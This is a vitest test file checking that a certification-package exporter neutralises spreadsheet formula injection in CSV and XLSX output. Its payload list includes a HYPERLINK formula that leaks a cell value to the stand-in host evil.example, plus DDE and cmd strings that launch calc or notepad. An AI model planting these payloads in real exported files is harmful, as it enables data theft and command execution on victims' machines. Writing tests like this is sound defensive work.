// Formula injection: every CSV and XLSX cell that starts with =, +, -, @, tab or carriage return is written with a
// leading apostrophe, so a spreadsheet shows it as text and never runs it. Real payloads go through the whole
// package builder and are read back with papaparse (CSV) and exceljs (XLSX).
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildCertificationPackage, neutraliseFormula, verifyPackage } from '../../shared/package';
import { csvCell, tableToCsv } from '../../shared/codec/csv-writer';
import { neutraliseAfterSeparators } from '../../shared/codec/formula-safety';
import { writeWorkbook } from '../../shared/codec/xlsx-writer';
import { chainEvent } from '../../shared/review/audit-log';
import type { AuditEvent } from '../../shared/review/types';
import { sampleCertificationInput, signAuditEvents } from '../fixtures/packages/sample-campaign';
import { reviewerFor } from '../fixtures/packages/webcrypto-signer';
import { PEOPLE, sampleSigners, text } from '../fixtures/packages/package-kit';
import type { TestSigner } from '../fixtures/packages/webcrypto-signer';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '+1+1',
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const startsDangerously = (v: string) => TRIGGERS.some((t) => v.startsWith(t));

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('prefixes an apostrophe to %j', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it('leaves other text alone, including text with a formula character later on', () => {
    for (const safe of ['keep', 'a=b', 'Owner: alice@example.com', '', "'already quoted", '   ', 'x = 1'])
      expect(neutraliseFormula(safe)).toBe(safe);
  });

  it('CSV cells are neutralised, then quoted as RFC 4180 requires', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=SUM(A1,B1)')).toBe(`"'=SUM(A1,B1)"`);
    // After the line break too: a semicolon-locale spreadsheet starts a new row there (csv-writer.ts).
    expect(csvCell('\r=1+1')).toBe(`"'\r'=1+1"`);
    expect(csvCell('say "hi"')).toBe(`"say ""hi"""`);
    expect(csvCell(null)).toBe('');
  });
});

describe('formula injection through the whole package', () => {
  let signers: TestSigner[];
  let files: Record<string, Uint8Array>;

  beforeAll(async () => {
    signers = await sampleSigners();
    const input = sampleCertificationInput(
      signers.map((s, i) => reviewerFor(s, PEOPLE[i]!)),
      { items: PAYLOADS.length * 2, seed: 4 },
    );
    // Payloads in every kind of text that reaches a cell: identity and target names, the system, signal messages,
    // and rationales (which live in the audit log too, so the chain is recorded again).
    const rationaleEvents = new Map<string, string>();
    PAYLOADS.forEach((payload, k) => {
      const item = input.items[k]!;
      item.identity.displayName = payload;
      item.target!.name = payload;
      item.target!.application = payload;
      if (item.suggestion) item.suggestion.signals = [{ id: 'unused-access', message: payload, value: 1, threshold: 90 }];
      item.decision!.rationale = payload;
      rationaleEvents.set(item.itemId, payload);
    });
    const standing = new Map<string, number>();
    input.auditEvents.forEach((e, i) => {
      if (e.type === 'decision' && e.itemId && rationaleEvents.has(e.itemId)) standing.set(e.itemId, i);
    });
    const bodies = input.auditEvents.map(({ seq: _s, prevHash: _p, hash: _h, ...body }, i) =>
      body.itemId && standing.get(body.itemId) === i ? { ...body, rationale: rationaleEvents.get(body.itemId)! } : body,
    );
    const events: AuditEvent[] = [];
    for (const body of bodies) events.push(chainEvent(events.at(-1) ?? null, body));
    // Each decision signed by its reviewer, as the app records it.
    const signed = await signAuditEvents({ ...input, auditEvents: events }, signers);
    const built = await buildCertificationPackage(signed, signers);
    files = built.files;
    expect((await verifyPackage(built.bytes)).verdict).toBe('valid');
  });

  it.each(['decisions.csv', 'remediation.csv'])(
    '%s: read back with papaparse, no cell starts like a formula, every payload is there behind an apostrophe',
    (name) => {
      const parsed = Papa.parse<string[]>(text(files[name]!), { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const cells = parsed.data.flat();
      expect(cells.filter(startsDangerously)).toEqual([]);
      const written = (p: string) => neutraliseAfterSeparators(`'${p}`);
      for (const payload of PAYLOADS.filter((p) => cells.some((c) => c.includes(written(p).slice(1).trim()))))
        expect(cells).toContain(written(payload));
      expect(cells).toContain(`'${PAYLOADS[0]}`);
    },
  );

  it('report.xlsx: read back with exceljs, no cell is a formula and no text starts like one; every payload is there behind an apostrophe', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(files['report.xlsx']! as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeFalsy();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts.filter(startsDangerously)).toEqual([]);
    for (const payload of PAYLOADS) expect(texts).toContain(`'${payload}`);
  });
});

describe('the xlsx writer on its own', () => {
  it('numbers stay numbers (a negative number is not text), text payloads are neutralised, dates are dates', async () => {
    const bytes = await writeWorkbook(
      [
        {
          name: 'Cells',
          columns: [
            { header: 'Text', kind: 'text', width: 20 },
            { header: 'Inline', kind: 'text', width: 20, distinct: true },
            { header: 'Amount', kind: 'general', width: 10 },
            { header: 'When', kind: 'date', width: 20 },
          ],
          rows: [
            ['=1+1', '@SUM(A1)', -5, '2026-10-01T08:00:00.000Z'],
            ['plain', 'plain inline', 3.25, new Date(Date.UTC(2026, 0, 2, 3, 4, 5))],
          ],
        },
      ],
      { title: 't', creator: 'test', createdAt: new Date(0) },
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Cells')!;
    expect(sheet.getRow(2).values).toEqual([undefined, "'=1+1", "'@SUM(A1)", -5, new Date('2026-10-01T08:00:00.000Z')]);
    expect(sheet.getRow(3).values).toEqual([undefined, 'plain', 'plain inline', 3.25, new Date('2026-01-02T03:04:05.000Z')]);
    expect(tableToCsv({ name: 'x', columns: [{ header: 'a', kind: 'text', width: 1 }], rows: [['-2+3'], ['fine']] })).toBe(
      "a\r\n'-2+3\r\nfine\r\n",
    );
  });
});
